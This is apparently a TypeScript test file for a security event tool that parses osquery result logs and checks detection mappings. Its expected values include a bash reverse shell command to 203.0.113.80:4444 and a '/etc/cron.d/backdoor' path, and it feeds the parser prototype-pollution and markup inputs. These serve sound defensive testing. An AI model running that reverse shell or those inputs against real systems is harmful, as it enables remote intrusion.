import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import type { VigilEvent } from '../../src/schema/event.ts';
import { line, read, selected } from '../detect/mapping/helpers.ts';
import { assertNoPollution, assertSoundEvent, readAs } from '../helpers/hostile.ts';
import { packAlertTitles } from '../helpers/pack-alerts.ts';
import { fixtureEvents } from '../helpers/format.ts';
import { tempDirs } from '../helpers/temp.ts';

/** osquery's results log: processes, sockets and file changes of scheduled queries, in every result format. */

const dirs = tempDirs('osquery');
const INPUT = join(import.meta.dirname, '..', 'fixtures', 'formats', 'osquery', 'input.jsonl');


void describe('osquery results', () => {
  void it('reads event, snapshot and batch results by their columns, at the time of the row', async () => {
    const events = await fixtureEvents('osquery', 'input.jsonl');
    assert.deepEqual(events.map((e) => [e.event.action, e.host?.name, e['@timestamp'], e.labels?.['osquery.name']]), [
      ['process-start', 'web01', '2024-11-23T10:00:00.000Z', 'pack_incident-response_process_events'],
      ['network-connection', 'web01', '2024-11-23T10:00:01.000Z', 'pack_incident-response_socket_events'],
      ['file-created', 'web01', '2024-11-23T10:00:02.000Z', 'pack_fim_file_events'],
      ['process-start', 'WS01', '2024-11-23T10:00:04.000Z', 'processes_snapshot'],
      ['process-start', 'WS01', '2024-11-23T10:00:04.000Z', 'processes_snapshot'],
      ['osquery-added', 'web01', '2024-11-23T10:00:05.000Z', 'listening_ports'],
    ]);
    const [bash, socket, file, powershell] = events as [VigilEvent, VigilEvent, VigilEvent, VigilEvent];
    assert.deepEqual(bash.process, { name: 'bash', pid: 3000, executable: '/usr/bin/bash', command_line: 'bash -c bash -i >& /dev/tcp/203.0.113.80/4444 0>&1', working_directory: '/var/www', parent: { pid: 2999 } });
    assert.deepEqual([socket.destination?.ip, socket.destination?.port, socket.network?.transport, socket.network?.direction], ['203.0.113.80', 4444, 'tcp', 'outbound']);
    assert.equal(file.file?.path, '/etc/cron.d/backdoor');
    assert.equal(powershell.labels?.['osquery.action'], 'snapshot');
    assert.notEqual(events[3]?.id, events[4]?.id, "a snapshot's rows are events of their own");
  });

  void it('feeds the process and connection logsources of the system its paths name', async () => {
    const [bash, socket, , powershell] = await fixtureEvents('osquery', 'input.jsonl');
    assert.equal(selected(bash!, { product: 'linux', category: 'process_creation' }), true);
    assert.equal(read(bash!, { product: 'linux', category: 'process_creation' }, 'CommandLine'), 'bash -c bash -i >& /dev/tcp/203.0.113.80/4444 0>&1');
    assert.equal(selected(socket!, { product: 'linux', category: 'network_connection' }), true);
    assert.equal(selected(powershell!, { product: 'windows', category: 'process_creation' }), true);
    assert.equal(selected(powershell!, { product: 'linux', category: 'process_creation' }), false);
    const titles = await packAlertTitles(dirs.fresh(), [INPUT]);
    assert.ok(titles.includes('PowerShell with an encoded command'), titles.join(' | '));
  });

  void it('survives hostile results: prototype-named columns, markup, odd types, empty batches', async () => {
    const { events, errors } = await readAs('osquery', [
      line({ name: '<b>q</b>', hostIdentifier: 'h', unixTime: 'x', columns: { __proto__: 'p', constructor: 'c', pid: '-1', path: '<script>', cmdline: ['a'] }, action: 'added' }),
      line({ name: 'q', hostIdentifier: 5, diffResults: { added: [null, 7, { remote_address: 'nope', remote_port: 'x' }], removed: 'no' } }),
      line({ name: 'q', hostIdentifier: 'h', snapshot: [] }),
    ].join(''));
    assert.deepEqual(errors, []);
    assert.equal(events.length, 2, 'an empty snapshot is no event');
    for (const event of events) assertSoundEvent(event);
    assert.equal(events[0]?.process?.executable, '<script>', 'kept as text: the edges escape it');
    assert.equal(events[0]?.process?.pid, undefined, "osquery's -1 is unknown");
    assertNoPollution();
  });
});
